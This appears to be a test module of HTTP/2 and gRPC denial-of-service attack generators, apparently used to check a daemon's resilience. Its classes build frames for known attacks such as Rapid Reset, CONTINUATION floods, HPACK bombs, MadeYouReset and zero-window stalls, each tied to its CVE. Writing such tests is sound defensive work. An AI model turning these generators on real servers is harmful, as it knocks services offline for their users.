"""Attackers that speak HTTP/2."""

import functools
import struct

from tests.attacks import frames
from tests.attacks.attack import Attack, End, repeated
from tests.attacks.frames import frame, streams

_STREAMS_A_BLOB = 1000


class Http2Attack(Attack):
    """`blob` is sent again and again, behind `begin`."""

    begin = b""
    blob = b""

    def opening(self) -> bytes:
        return frames.opening()

    # Without the acknowledgement the daemon's large windows are not ours yet.
    def greeting(self) -> bytes:
        return frame(frames.SETTINGS, frames.ACK, 0) + self.begin

    def more(self, number: int) -> bytes:
        del number
        return self.blob


class StreamsAttack(Http2Attack):
    """`on_stream(id)` for one new stream after the other."""

    @staticmethod
    def on_stream(stream: int) -> bytes:
        raise NotImplementedError

    @functools.lru_cache(maxsize=64)
    def more(self, number: int) -> bytes:
        return b"".join(self.on_stream(s) for s in streams(number * _STREAMS_A_BLOB, _STREAMS_A_BLOB))


def _open_block(block: bytes, end_stream: bool = False) -> bytes:
    """A header block that does not end."""
    return frame(frames.HEADERS, frames.END_STREAM if end_stream else 0, 1, block)


class ContinuationFlood(Http2Attack):
    name = "continuation-flood"
    why = "a header block that never ends (CVE-2024-24549 and its like)"
    begin = _open_block(frames.ANY_REQUEST)
    blob = repeated(frame(frames.CONTINUATION, 0, 1, frames.literal(b"x-filler", b"a" * 1000) * 15))


class EmptyContinuations(Http2Attack):
    name = "continuation-empty"
    why = "the same of empty frames"
    begin = _open_block(frames.ANY_REQUEST)
    blob = repeated(frame(frames.CONTINUATION, 0, 1))


class HpackString(Http2Attack):
    name = "hpack-1gib-string"
    why = "one header field that says it is 1 GiB long"
    begin = _open_block(frames.ANY_REQUEST + b"\x00\x01x" + frames.integer(1 << 30, 7))
    blob = repeated(frame(frames.CONTINUATION, 0, 1, b"a" * 16000))


class HpackVarint(Http2Attack):
    name = "hpack-varint"
    why = "an integer that goes on with zeros for ever"
    begin = _open_block(frames.ANY_REQUEST + b"\x00\x7f")
    blob = repeated(frame(frames.CONTINUATION, 0, 1, b"\x80" * 16000))


class HeaderList10Mb(StreamsAttack):
    name = "header-list-10mb"
    why = "6 kB of HPACK that stand for 10 MB of header fields, on each stream"
    _BLOCK = frames.ANY_REQUEST + frames.literal(b"x", b"a" * 4000, first=0x40) + b"\xbe" * 2600

    @staticmethod
    def on_stream(stream: int) -> bytes:
        return frame(frames.HEADERS, frames.END_HEADERS | frames.END_STREAM, stream, HeaderList10Mb._BLOCK)


class RapidReset(StreamsAttack):
    name = "rapid-reset"
    why = "streams opened and reset at once (CVE-2023-44487)"

    @staticmethod
    def on_stream(stream: int) -> bytes:
        return frame(frames.HEADERS, frames.END_HEADERS, stream, frames.GRPC_REQUEST) + frames.reset(stream)


class MadeYouResetOverflow(StreamsAttack):
    name = "made-you-reset-overflow"
    why = "windows that overflow: the server resets each stream (CVE-2025-8671)"

    @staticmethod
    def on_stream(stream: int) -> bytes:
        return (frame(frames.HEADERS, frames.END_HEADERS, stream, frames.GRPC_REQUEST)
                + frames.window_update(stream, 0x7FFFFFFF) * 2)


class MadeYouResetZero(StreamsAttack):
    name = "made-you-reset-zero"
    why = "WINDOW_UPDATE of 0 on each stream"

    @staticmethod
    def on_stream(stream: int) -> bytes:
        return frame(frames.HEADERS, frames.END_HEADERS, stream, frames.GRPC_REQUEST) + frames.window_update(stream, 0)


class MadeYouResetHalfClosed(StreamsAttack):
    name = "made-you-reset-half-closed"
    why = "DATA behind the end of each stream"

    @staticmethod
    def on_stream(stream: int) -> bytes:
        return (frame(frames.HEADERS, frames.END_HEADERS | frames.END_STREAM, stream, frames.GRPC_REQUEST)
                + frame(frames.DATA, 0, stream, b"x"))


class MadeYouResetBadHeaders(StreamsAttack):
    name = "made-you-reset-headers"
    why = "requests whose header fields are forbidden: the server resets each stream"

    @staticmethod
    def on_stream(stream: int) -> bytes:
        return frame(frames.HEADERS, frames.END_HEADERS, stream, frames.ANY_REQUEST + frames.literal(b"connection", b"x"))


class PingFlood(Http2Attack):
    name = "ping-flood"
    why = "PINGs as fast as they go"
    blob = repeated(frame(frames.PING, 0, 0, b"12345678"))


class PingFloodUnread(PingFlood):
    name = "ping-flood-unread"
    why = "the same, and no acknowledgement is read"
    reads = False


class SettingsFlood(Http2Attack):
    name = "settings-flood"
    why = "SETTINGS as fast as they go"
    blob = repeated(frames.settings((3, 100)))


class SettingsFloodUnread(SettingsFlood):
    name = "settings-flood-unread"
    why = "the same, and no acknowledgement is read"
    reads = False


class EmptyData(Http2Attack):
    name = "empty-data"
    why = "DATA frames without data"
    begin = frame(frames.HEADERS, frames.END_HEADERS, 1, frames.GRPC_REQUEST)
    blob = repeated(frame(frames.DATA, 0, 1))


class PaddedData(Http2Attack):
    name = "padded-data"
    why = "DATA frames of padding only"
    begin = frame(frames.HEADERS, frames.END_HEADERS, 1, frames.GRPC_REQUEST)
    blob = repeated(frame(frames.DATA, 0x8, 1, b"\xff" + b"\0" * 255))


class WindowUpdateFlood(Http2Attack):
    name = "window-update-flood"
    why = "WINDOW_UPDATE by 1, on the connection"
    blob = repeated(frames.window_update(0, 1))


class StreamWindowUpdateFlood(Http2Attack):
    name = "window-update-stream"
    why = "WINDOW_UPDATE by 1, on a stream"
    begin = frame(frames.HEADERS, frames.END_HEADERS, 1, frames.GRPC_REQUEST)
    blob = repeated(frames.window_update(1, 1))


class PriorityFlood(Http2Attack):
    name = "priority-flood"
    why = "PRIORITY of idle streams"
    blob = b"".join(frame(frames.PRIORITY, 0, s, struct.pack(">IB", 0, s % 256)) for s in streams(0, 4000))


class PriorityCycles(Http2Attack):
    name = "priority-cycles"
    why = "streams that depend on each other in a ring, turned again and again (CVE-2019-9513)"
    begin = b"".join(frame(frames.HEADERS, frames.END_HEADERS, s, frames.GRPC_REQUEST) for s in streams(0, 50))
    blob = b"".join(frame(frames.PRIORITY, 0, s, struct.pack(">IB", 2 * ((s * k) % 50) + 1, 255))
                    for k in (1, 3, 7, 9, 11) for s in streams(0, 50) if 2 * ((s * k) % 50) + 1 != s) * 20


class UnknownFrames(Http2Attack):
    name = "unknown-frames"
    why = "frames of a type that nobody knows, which are to be passed over"
    blob = repeated(frame(0xBB, 0, 0))


class ZeroWindow(Http2Attack):
    name = "zero-window"
    why = "requests whose answers cannot be sent: the client's window is 0 (CVE-2019-9517)"
    end = End.TIME_OUT
    begin = b"".join(frame(frames.HEADERS, frames.END_HEADERS, s, frames.GRPC_REQUEST)
                     + frame(frames.DATA, frames.END_STREAM, s, frames.EMPTY_MESSAGE) for s in streams(0, 100))

    def opening(self) -> bytes:
        return frames.opening((frames.INITIAL_WINDOW_SIZE, 0))

    def more(self, number: int) -> bytes:
        return b""


class LengthPrefix4Gib(Http2Attack):
    name = "grpc-4gib-prefix"
    why = "a gRPC message that says it is 4 GiB long, and what can be sent of it"
    begin = frame(frames.HEADERS, frames.END_HEADERS, 1, frames.GRPC_REQUEST) + frame(frames.DATA, 0, 1, b"\0\xff\xff\xff\xff")
    blob = repeated(frame(frames.DATA, 0, 1, b"a" * 16384))


class Message65Mib(Http2Attack):
    name = "grpc-65mib-message"
    why = "a message of 65 MiB, one over the limit"
    begin = (frame(frames.HEADERS, frames.END_HEADERS, 1, frames.GRPC_REQUEST)
             + frame(frames.DATA, 0, 1, b"\0" + struct.pack(">I", 65 << 20)))
    blob = repeated(frame(frames.DATA, 0, 1, b"a" * 16384))

    def more(self, number: int) -> bytes:
        return self.blob if number * len(self.blob) < 65 << 20 else b""


class UnfinishedMessage(Http2Attack):
    name = "grpc-unfinished"
    why = "messages of which half is sent"
    end = End.TIME_OUT
    begin = b"".join(frame(frames.HEADERS, frames.END_HEADERS, s, frames.GRPC_REQUEST)
                     + frame(frames.DATA, 0, s, b"\0\0\1\0\0" + b"a" * 1000) for s in streams(0, 50))

    def more(self, number: int) -> bytes:
        return b""


HTTP2_ATTACKS = [
    ContinuationFlood, EmptyContinuations, HpackString, HpackVarint, HeaderList10Mb, RapidReset, MadeYouResetOverflow,
    MadeYouResetZero, MadeYouResetHalfClosed, MadeYouResetBadHeaders, PingFlood, PingFloodUnread, SettingsFlood,
    SettingsFloodUnread, EmptyData, PaddedData, WindowUpdateFlood, StreamWindowUpdateFlood, PriorityFlood, PriorityCycles,
    UnknownFrames, ZeroWindow, LengthPrefix4Gib, Message65Mib, UnfinishedMessage,
]
